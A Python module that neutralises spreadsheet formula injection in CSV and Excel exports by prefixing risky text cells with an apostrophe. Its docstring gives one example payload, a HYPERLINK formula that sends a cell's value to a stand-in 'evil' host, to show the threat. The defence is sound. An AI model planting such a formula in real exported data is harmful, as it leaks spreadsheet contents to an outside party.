"""Cells that are safe to open in a spreadsheet: exported text never runs as a formula.

A CSV or Excel file is opened in Excel, LibreOffice or Google Sheets, which take a
cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a carriage
return before one of those) as a formula: ``=HYPERLINK("http://evil/?"&A1)`` in a
customer name would run on the manager's machine. Every text cell that starts so
gets a leading apostrophe, which spreadsheets show as text and do not evaluate
(the OWASP advice). Numbers are data, not text: a negative number stays a
number, and so does text that is nothing but a number (``-12.5``).

>>> safe_cell("=HYPERLINK(\\"http://x\\")"), safe_cell("-12.5"), safe_cell(-3), safe_cell("ok")
('\\'=HYPERLINK("http://x")', '-12.5', -3, 'ok')
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_text(text: str) -> str:
    """``text``, with an apostrophe in front when a spreadsheet would run it."""
    if text.startswith(FORMULA_STARTS) and not _NUMBER.match(text):
        return "'" + text
    return text


def safe_cell(value: Any) -> Any:
    """A cell value for CSV or Excel: text neutralised, everything else unchanged."""
    return safe_text(value) if isinstance(value, str) else value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell (and the column names) neutralised."""
    import pandas as pd  # only a frame needs it: a cell does not

    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out
